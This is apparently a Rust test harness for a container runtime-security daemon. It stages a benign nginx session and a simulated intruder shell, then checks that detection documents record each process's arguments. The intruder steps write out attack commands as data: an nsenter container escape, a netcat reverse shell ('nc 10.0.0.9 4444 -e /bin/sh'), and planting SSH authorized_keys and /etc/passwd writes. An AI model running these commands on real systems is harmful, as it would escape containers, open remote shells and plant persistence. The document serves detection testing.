//! `d4c-vmtest conformance`: the session the conformance queries
//! (`vmtest/conformance/queries.toml`) run over, performed for real
//! (issue 12, item 5). The real `d4c-runtime` (the runtime check's
//! [`Daemon`]) runs `vmtest/conformance/policy.yaml` over two pods made by
//! containerd through the CRI and delivers to the guest's `_bulk`
//! endpoint ([`BulkSink`]):
//!
//! - `web` (benign): a web server started by the container runtime
//!   without a terminal (`nginx -g 'daemon off;'`) that runs a shell
//!   command, `base64` of a report, `ssh -V`, writes its access log and
//!   renames a cache file;
//! - `app` (the intruder): `bash -i` started as `kubectl exec -it` starts
//!   it (`ctr tasks exec -t`: runc gives it a new pty of the container as
//!   its controlling terminal, as session leader, its parent outside the
//!   container), which runs `nsenter --target 1 ...`, `base64 -d`, an ssh
//!   tunnel, netcat through `sh -c`, opens `/etc/passwd` for writing,
//!   plants `/root/.ssh/authorized_keys` and renames a tool into
//!   `/usr/local/bin`.
//!
//! Every program is the agent binary under the tool's name
//! ([`crate::session`]); each process of the session tells the guest who
//! it is over a unix socket, whose `SO_PEERCRED` gives the guest its pid.
//! Which activity made a document is then its container and pid, never a
//! field the queries test.
//!
//! Checked here: every process's documents arrive; every exec document of
//! the session has `process.args` equal to the argument vector the guest
//! gave that process (field by field, and `args_count`); every document
//! keeps the integration's field types. Out: the documents of the two
//! containers, one a line after [`DOC_PREFIX`], and which activity made
//! each (`event.id` to activity, one JSON line after [`ACTIVITIES_PREFIX`]),
//! for `scripts/vmtest` to run `vmtest/conformance/check.py` over; the
//! summary.

use std::collections::{BTreeMap, BTreeSet};
use std::fs::{File, OpenOptions};
use std::io::Read;
use std::os::fd::{AsFd, OwnedFd};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::fs::OpenOptionsExt;
use std::os::unix::net::{SocketAddr, UnixListener, UnixStream};
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use crate::bulk_sink::{BulkSink, Received};
use crate::bundle::{Container, ContainerSpec};
use crate::ops::AgentOp;
use crate::protocol::{write_line, LineReader};
use crate::runtime_check::{compile_named, daemon_config, metric, uninstall, Daemon, DELIVERY_TIMEOUT, SINK};
use crate::session::{Hello, Step, REPLY_TIMEOUT, SOCKET_NAME};
use crate::sys;

const WORKDIR: &str = "/tmp/d4c-vmtest-conformance";
/// The policy: every fork and exec, changes in the watched trees, logged.
const POLICY: &str = include_str!("../conformance/policy.yaml");
/// The console prefix of each document of the session.
pub const DOC_PREFIX: &str = "D4C-VMTEST-CONFORMANCE-DOC: ";
/// The console prefix of the `event.id` → activity object.
pub const ACTIVITIES_PREFIX: &str = "D4C-VMTEST-CONFORMANCE-ACTIVITIES: ";
/// The most documents printed: the console stays bounded (a session makes
/// about 60).
const MAX_DOCUMENTS: usize = 400;
/// How long a `ctr tasks exec` of a whole session may take (TCG).
const SESSION_TIMEOUT: Duration = Duration::from_secs(180);

/// One session: a process the container runtime starts in a container
/// (its argument vector; with a terminal or not) and the steps it runs.
pub struct Session {
    /// The activity the session's own process belongs to.
    pub activity: &'static str,
    /// Its argument vector, as `kubectl exec` passes it (`argv[0]` found
    /// in `PATH` by runc).
    pub argv: Vec<String>,
    /// Whether it gets a terminal (`-it`).
    pub tty: bool,
    /// The steps, each with the activity its process belongs to.
    pub steps: Vec<(&'static str, Step)>,
}

fn strings(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| s.to_string()).collect()
}

fn tool(path: &str, argv: &[&str]) -> Step {
    Step::Run { path: path.into(), argv: strings(argv) }
}

/// The benign activity: a web server and what it runs and writes (the
/// same tools as the intruder's, without their telling arguments).
pub fn benign() -> Session {
    let rename = AgentOp::Sequence(vec![
        AgentOp::Create { path: "/tmp/cache.tmp".into(), mode: 0o644 },
        AgentOp::Rename { from: "/tmp/cache.tmp".into(), to: "/tmp/cache".into() },
    ]);
    Session {
        activity: "benign",
        argv: strings(&["nginx", "-g", "daemon off;"]),
        tty: false,
        steps: vec![
            ("benign", tool("/bin/sh", &["sh", "-c", "cat /etc/hostname"])),
            ("benign", Step::Op(AgentOp::Write("/var/log/nginx/access.log".into()))),
            ("benign", tool("/usr/bin/base64", &["base64", "/tmp/report"])),
            ("benign", tool("/usr/bin/ssh", &["ssh", "-V"])),
            ("benign", Step::Op(rename)),
        ],
    }
}

/// The intruder's interactive session: the activities `queries.toml`
/// names.
pub fn intruder() -> Session {
    let plant = AgentOp::Sequence(vec![
        AgentOp::Mkdir { path: "/root/.ssh".into(), mode: 0o700 },
        AgentOp::Create { path: "/root/.ssh/authorized_keys".into(), mode: 0o600 },
    ]);
    let drift = AgentOp::Sequence(vec![
        AgentOp::Create { path: "/tmp/kit".into(), mode: 0o755 },
        AgentOp::Rename { from: "/tmp/kit".into(), to: "/usr/local/bin/kit".into() },
    ]);
    Session {
        activity: "shell",
        argv: strings(&["bash", "-i"]),
        tty: true,
        steps: vec![
            ("escape", tool("/usr/bin/nsenter", &["nsenter", "--target", "1", "--mount", "sh"])),
            ("decode", tool("/usr/bin/base64", &["base64", "-d", "/tmp/p.b64"])),
            ("tunnel", tool("/usr/bin/ssh", &["ssh", "-L", "8080:db:5432", "ops@10.0.0.9"])),
            ("netcat", tool("/bin/sh", &["sh", "-c", "nc 10.0.0.9 4444 -e /bin/sh"])),
            ("accounts", Step::Op(AgentOp::Write("/etc/passwd".into()))),
            ("persistence", Step::Op(plant)),
            ("drift", Step::Op(drift)),
        ],
    }
}

/// The two containers: every program a session runs is in the image
/// (the agent binary under its name), with the files it writes.
fn specs() -> [ContainerSpec; 2] {
    let exe = |paths: &[&str]| paths.iter().map(|p| (p.to_string(), 0o755)).collect::<Vec<_>>();
    let mut web_files = exe(&["/usr/sbin/nginx", "/bin/sh", "/usr/bin/base64", "/usr/bin/ssh"]);
    web_files.extend([("/var/log/nginx/access.log".to_string(), 0o644), ("/etc/passwd".to_string(), 0o644)]);
    let mut app_files = exe(&["/bin/bash", "/bin/sh", "/usr/bin/nsenter", "/usr/bin/base64", "/usr/bin/ssh"]);
    app_files.push(("/etc/passwd".to_string(), 0o644));
    [
        ContainerSpec {
            name: "web".into(),
            pod_uid: "0d4c1200-5a0e-4e57-8000-00000000c0f1".into(),
            image: Some("docker.io/library/nginx:1.25".into()),
            namespace: Some("shop".into()),
            pod: Some("web-1".into()),
            files: web_files,
            ..ContainerSpec::default()
        },
        ContainerSpec {
            name: "app".into(),
            pod_uid: "0d4c1200-5a0e-4e57-8000-00000000c0f2".into(),
            image: Some("docker.io/library/debian:12".into()),
            namespace: Some("shop".into()),
            pod: Some("app-1".into()),
            files: app_files,
            dirs: vec!["/root".into(), "/usr/local/bin".into()],
            ..ContainerSpec::default()
        },
    ]
}

/// Who a process of a session is.
#[derive(Debug, Clone)]
struct Owner {
    activity: String,
    /// The container it runs in (its id).
    container: String,
    /// The argument vector the guest gave it, when it is a program the
    /// session exec'd (the session's own process, a tool).
    argv: Option<Vec<String>>,
}

/// What the socket's connections report, shared with their threads.
#[derive(Default)]
struct Board {
    /// The session running now, and its container's id.
    current: Option<(Arc<Session>, String)>,
    /// Every process that said who it is, by its pid in the guest.
    owners: BTreeMap<u32, Owner>,
    /// The shell's `done` lines of the current session.
    reports: Vec<String>,
    /// Whether the current session's shell said `bye`.
    finished: bool,
    /// What went wrong on a connection.
    errors: Vec<String>,
}

type Shared = Arc<Mutex<Board>>;

fn lock(board: &Shared) -> std::sync::MutexGuard<'_, Board> {
    board.lock().unwrap_or_else(std::sync::PoisonError::into_inner)
}

/// Listens on [`SOCKET_NAME`]; a thread per connection.
fn listen(board: &Shared) -> Result<(), String> {
    let addr = SocketAddr::from_abstract_name(SOCKET_NAME).map_err(|e| format!("socket name: {e}"))?;
    let listener = UnixListener::bind_addr(&addr).map_err(|e| format!("cannot listen for the session: {e}"))?;
    let board = Arc::clone(board);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let board = Arc::clone(&board);
            std::thread::spawn(move || {
                if let Err(e) = serve(stream, &board) {
                    lock(&board).errors.push(e);
                }
            });
        }
    });
    Ok(())
}

/// One connection: records the peer's pid under the activity it names,
/// and gives a shell its script and collects its reports.
fn serve(stream: UnixStream, board: &Shared) -> Result<(), String> {
    let pid = sys::peer_pid(stream.as_fd()).map_err(|e| format!("SO_PEERCRED: {e}"))?;
    let pid = u32::try_from(pid).map_err(|_| format!("peer pid {pid}"))?;
    let mut out = File::from(OwnedFd::from(stream.try_clone().map_err(|e| e.to_string())?));
    let mut input = LineReader::new(OwnedFd::from(stream));
    let read = |input: &mut LineReader| match input.read_line(REPLY_TIMEOUT) {
        Ok(Some(line)) => Ok(line),
        Ok(None) => Err(format!("pid {pid} closed its connection")),
        Err(e) => Err(format!("pid {pid}: {e}")),
    };
    let hello = Hello::parse(&read(&mut input)?)?;
    let (session, container) = lock(board).current.clone().ok_or(format!("pid {pid} said hello outside a session"))?;
    let send = |out: &mut File, line: &str| write_line(out, line).map_err(|e| format!("pid {pid}: {e}"));
    match hello {
        Hello::Session => {
            let owner = Owner { activity: session.activity.into(), container, argv: Some(session.argv.clone()) };
            lock(board).owners.insert(pid, owner);
            for (_, step) in &session.steps {
                send(&mut out, &step.to_line())?;
            }
            send(&mut out, "end")?;
            loop {
                let line = read(&mut input)?;
                if line == "bye" {
                    lock(board).finished = true;
                    return Ok(());
                }
                lock(board).reports.push(line);
            }
        }
        Hello::Step(index) => {
            let (activity, step) = session.steps.get(index).ok_or(format!("pid {pid}: no step {index}"))?;
            let argv = match step {
                Step::Run { argv, .. } => Some(argv.clone()),
                Step::Op(_) => None,
            };
            lock(board).owners.insert(pid, Owner { activity: activity.to_string(), container, argv });
            send(&mut out, "ok")
        }
    }
}

/// Runs `session` in `container` through `ctr tasks exec` (with a pty as
/// its terminal when `tty`), and checks that every step ran and exited 0.
fn perform(board: &Shared, session: Session, container: &str, exec_id: &str) -> Result<(), String> {
    let session = Arc::new(session);
    {
        let mut b = lock(board);
        b.current = Some((Arc::clone(&session), container.to_string()));
        b.reports.clear();
        b.finished = false;
    }
    let output = ctr_exec(container, exec_id, &session.argv, session.tty)?;
    let b = lock(board);
    let failed: Vec<&String> = b.reports.iter().filter(|r| !r.ends_with(" 0")).collect();
    if !b.errors.is_empty() || !b.finished || b.reports.len() != session.steps.len() || !failed.is_empty() {
        return Err(format!(
            "session `{}` ({}): finished={} reports={:?} errors={:?}; its output: {output}",
            session.activity,
            session.argv.join(" "),
            b.finished,
            b.reports,
            b.errors
        ));
    }
    Ok(())
}

/// `ctr -n k8s.io tasks exec [-t] --exec-id ID -- CONTAINER ARGV...`,
/// waited for (bounded). With `tty`, ctr's terminal is a pty the guest
/// holds the master of (ctr copies it to the process's own pty). Returns
/// what it printed (bounded); an error when it failed.
fn ctr_exec(container: &str, exec_id: &str, argv: &[String], tty: bool) -> Result<String, String> {
    let mut command = Command::new("ctr");
    command.args(["-n", "k8s.io", "tasks", "exec", "--exec-id", exec_id]);
    if tty {
        command.arg("-t");
    }
    command.arg("--").arg(container).args(argv);
    let (master, errors) = if tty {
        let (master, path) = crate::agent::open_pty().map_err(|(_, e)| e)?;
        let slave = OpenOptions::new()
            .read(true)
            .write(true)
            .custom_flags(libc::O_NOCTTY)
            .open(&path)
            .map_err(|e| format!("{path}: {e}"))?;
        let copy = |f: &File| f.try_clone().map_err(|e| e.to_string());
        command.stdin(copy(&slave)?).stdout(copy(&slave)?).stderr(slave);
        (Some(master), None)
    } else {
        let path = PathBuf::from(WORKDIR).join(format!("{exec_id}.err"));
        let file = File::create(&path).map_err(|e| format!("{}: {e}", path.display()))?;
        command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(file);
        (None, Some(path))
    };
    let mut child = command.spawn().map_err(|e| format!("cannot run ctr: {e}"))?;
    // The slave's copies go with the command: the master then ends (EIO)
    // when ctr has exited.
    drop(command);
    let drain = master.map(|mut master| {
        std::thread::spawn(move || {
            let (mut seen, mut buf) = (Vec::new(), [0u8; 4096]);
            while let Ok(n @ 1..) = master.read(&mut buf) {
                if seen.len() < 4096 {
                    seen.extend_from_slice(buf.get(..n).unwrap_or_default());
                }
            }
            seen
        })
    });
    let deadline = Instant::now() + SESSION_TIMEOUT;
    let status = loop {
        if let Some(status) = child.try_wait().map_err(|e| e.to_string())? {
            break status;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            return Err(format!("ctr exec {exec_id} did not end within {SESSION_TIMEOUT:?}"));
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    let printed = match (drain, errors) {
        (Some(drain), _) => drain.join().unwrap_or_default(),
        (None, Some(path)) => std::fs::read(path).unwrap_or_default(),
        (None, None) => Vec::new(),
    };
    let printed = String::from_utf8_lossy(&printed).replace(['\r', '\n'], " ");
    if status.success() {
        Ok(printed)
    } else {
        Err(format!("ctr exec {exec_id} ({}) ended with {status}: {printed}", argv.join(" ")))
    }
}

fn pid_of(doc: &Received) -> Option<u32> {
    doc.source.pointer("/process/pid").and_then(Value::as_u64).and_then(|p| u32::try_from(p).ok())
}

fn is_exec(doc: &Received) -> bool {
    doc.source.pointer("/event/action") == Some(&json!("exec"))
}

/// The owner of `doc`'s process: by its pid and its container.
fn owner_of<'a>(owners: &'a BTreeMap<u32, Owner>, doc: &Received) -> Option<&'a Owner> {
    let owner = owners.get(&pid_of(doc)?)?;
    (doc.source.pointer("/container/id") == Some(&json!(owner.container))).then_some(owner)
}

/// Whether every process of the session has its documents: an exec
/// document for a program, a file document for a file step.
fn complete(owners: &BTreeMap<u32, Owner>, docs: &[Received]) -> Vec<String> {
    let mut missing = Vec::new();
    for (pid, owner) in owners {
        let found = docs.iter().any(|d| {
            owner_of(owners, d).is_some()
                && pid_of(d) == Some(*pid)
                && if owner.argv.is_some() { is_exec(d) } else { d.source.pointer("/file/path").is_some() }
        });
        if !found {
            missing.push(format!("{} (pid {pid})", owner.activity));
        }
    }
    missing
}

/// Every exec document of the session's processes has the argument
/// vector the guest gave that process. Returns how many were checked.
fn check_exec_args(owners: &BTreeMap<u32, Owner>, docs: &[Received]) -> Result<usize, String> {
    let mut checked = 0;
    let mut wrong = Vec::new();
    for doc in docs.iter().filter(|d| is_exec(d)) {
        let Some(Owner { activity, argv: Some(argv), .. }) = owner_of(owners, doc) else { continue };
        let args = doc.source.pointer("/process/args");
        let count = doc.source.pointer("/process/args_count");
        if args != Some(&json!(argv)) || count != Some(&json!(argv.len())) {
            wrong.push(format!("{activity}: process.args {args:?} args_count {count:?}, the guest ran {argv:?}"));
        }
        checked += 1;
    }
    if wrong.is_empty() {
        Ok(checked)
    } else {
        Err(format!("exec documents with other arguments than their program's: {}", wrong.join("; ")))
    }
}

/// Starts the containers and the daemon, runs both sessions, and checks
/// and prints the documents. The summary on success.
pub fn run() -> Result<String, String> {
    let workdir = PathBuf::from(WORKDIR);
    let _ = std::fs::remove_dir_all(&workdir);
    std::fs::create_dir_all(&workdir).map_err(|e| format!("{WORKDIR}: {e}"))?;
    let board = Shared::default();
    listen(&board)?;
    let sink = BulkSink::start(SINK)?;
    let [web_spec, app_spec] = specs();
    let containers = workdir.join("containers");
    let web = Container::start(&web_spec, &containers)?;
    let app = Container::start(&app_spec, &containers)?;

    let policy = workdir.join("policy.yaml");
    std::fs::write(&policy, POLICY).map_err(|e| format!("{}: {e}", policy.display()))?;
    let artifact = workdir.join("policy.d4c");
    compile_named(&policy, &artifact, "conformance", 1, |t| t)?;
    let config = workdir.join("runtime.toml");
    std::fs::write(&config, daemon_config(&workdir, &artifact)).map_err(|e| format!("{}: {e}", config.display()))?;
    let (mut daemon, _) = Daemon::start(&config, &workdir.join("daemon.log"))?;
    // Both pods' sandboxes and containers, found at the daemon's start.
    let deadline = Instant::now() + Duration::from_secs(60);
    while metric("d4c_containers ").unwrap_or(0.0) < 4.0 {
        if Instant::now() > deadline {
            return Err(format!("the two pods were not registered within 60 s: {}", daemon.log_tail()));
        }
        std::thread::sleep(Duration::from_millis(50));
    }

    let started = Instant::now();
    perform(&board, benign(), web.id(), "conformance-web")?;
    perform(&board, intruder(), app.id(), "conformance-shell")?;
    let session_s = started.elapsed().as_secs_f64();
    let owners = lock(&board).owners.clone();
    sink.wait_for(DELIVERY_TIMEOUT, |d| complete(&owners, d).is_empty())
        .map_err(|d| format!("no documents of {:?} among {} delivered", complete(&owners, &d), d.len()))?;
    // The ends and late file documents of the last processes.
    std::thread::sleep(Duration::from_secs(2));
    let documents = sink.documents();
    let exec_args_checked = check_exec_args(&owners, &documents)?;
    for doc in &documents {
        let problems = d4c_runtime::fields::check(&doc.source);
        if !problems.is_empty() {
            return Err(format!("document {} in {} breaks the field table: {problems:?}", doc.id, doc.index));
        }
    }

    let ours: BTreeSet<&str> = [web.id(), app.id()].into_iter().collect();
    let session: Vec<&Received> = documents
        .iter()
        .filter(|d| d.source.pointer("/container/id").and_then(Value::as_str).is_some_and(|c| ours.contains(c)))
        .collect();
    if session.len() > MAX_DOCUMENTS {
        return Err(format!("{} documents of the session: more than the {MAX_DOCUMENTS} printed", session.len()));
    }
    let mut activities = serde_json::Map::new();
    let mut per_activity: BTreeMap<&str, usize> = BTreeMap::new();
    for doc in &session {
        let Some(owner) = owner_of(&owners, doc) else { continue };
        let Some(id) = doc.source.pointer("/event/id").and_then(Value::as_str) else {
            return Err(format!("document {} has no event.id", doc.id));
        };
        activities.insert(id.to_owned(), json!(owner.activity));
        *per_activity.entry(owner.activity.as_str()).or_default() += 1;
    }
    for doc in &session {
        println!("{DOC_PREFIX}{}", doc.source);
    }
    let mapped = activities.len();
    println!("{ACTIVITIES_PREFIX}{}", Value::Object(activities));

    daemon.signal(libc::SIGTERM)?;
    let status = daemon.wait(Duration::from_secs(60))?;
    if !status.success() {
        return Err(format!("d4c-runtime exited with {status} on SIGTERM: {}", daemon.log_tail()));
    }
    uninstall(&config)?;
    web.stop()?;
    app.stop()?;
    let bad = sink.bad_requests.lock().map(|b| b.clone()).unwrap_or_default();
    if !bad.is_empty() {
        return Err(format!("the endpoint could not read requests: {bad:?}"));
    }
    let per_activity: Vec<String> = per_activity.iter().map(|(a, n)| format!("{a}:{n}")).collect();
    Ok(format!(
        "documents={} mapped={} processes={} exec-args-checked={exec_args_checked} activities={} session-seconds={session_s:.1}",
        session.len(),
        mapped,
        owners.len(),
        per_activity.join(",")
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_policy_lints_clean_and_the_sessions_name_every_activity_the_queries_find() {
        let (_, lint) = d4cc::lint::lint_bytes("policy.yaml".to_string(), POLICY.as_bytes().to_vec());
        assert!(lint.checked.is_some(), "vmtest/conformance/policy.yaml does not lint");
        let queries = include_str!("../conformance/queries.toml");
        let mut named: BTreeSet<&str> = [benign(), intruder()]
            .iter()
            .flat_map(|s| std::iter::once(s.activity).chain(s.steps.iter().map(|(a, _)| *a)))
            .collect::<BTreeSet<_>>();
        named.remove("benign");
        for line in queries.lines().filter(|l| l.starts_with("finds = ")) {
            for activity in line.trim_start_matches("finds = ").split('"').skip(1).step_by(2) {
                assert!(named.contains(activity), "no step performs activity `{activity}`");
            }
        }
    }

    #[test]
    fn exec_arguments_are_compared_whole() {
        let owners: BTreeMap<u32, Owner> = [(
            7,
            Owner { activity: "escape".into(), container: "c".into(), argv: Some(strings(&["nsenter", "-t", "1"])) },
        )]
        .into();
        let doc = |args: Value, count: usize| Received {
            index: "logs-cloud_defend.process-vmtest".into(),
            id: "x".into(),
            source: json!({"event": {"action": "exec"}, "process": {"pid": 7, "args": args, "args_count": count},
                           "container": {"id": "c"}}),
        };
        assert_eq!(check_exec_args(&owners, &[doc(json!(["nsenter", "-t", "1"]), 3)]), Ok(1));
        assert!(check_exec_args(&owners, &[doc(json!(["sh", "-c", "nsenter -t 1"]), 3)]).is_err());
        assert!(check_exec_args(&owners, &[doc(json!(["nsenter", "-t", "1"]), 4)]).is_err());
        // Another container's pid 7 is not the session's.
        let mut other = doc(json!(["x"]), 1);
        other.source["container"]["id"] = json!("d");
        assert_eq!(check_exec_args(&owners, &[other]), Ok(0));
        assert_eq!(complete(&owners, &[doc(json!([]), 0)]), Vec::<String>::new());
        assert_eq!(complete(&owners, &[]), vec!["escape (pid 7)".to_string()]);
    }
}
